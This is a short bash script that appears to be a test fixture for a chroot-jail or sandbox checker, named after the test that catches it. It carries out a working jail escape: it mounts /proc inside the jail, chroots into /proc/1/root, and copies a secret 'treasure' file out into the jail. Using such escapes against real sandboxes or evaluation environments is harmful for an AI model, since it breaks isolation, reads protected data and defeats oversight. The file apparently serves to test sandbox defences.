#!/usr/bin/env bash
# caught by: test_a_prisoner_lives_in_the_jail
# A perfect escape with the secret as its loot; but all who took part in it have ended.
set -euo pipefail
# shellcheck disable=SC2016 # the inner shells expand it
sudo chroot jail /bin/sh -c '
  mount -t proc proc /proc
  chroot /proc/1/root /bin/sh -c "cat \"\$1/treasure\" >\"\$1/jail/answer\"" sh "$1"
  umount /proc
' sh "$PWD"
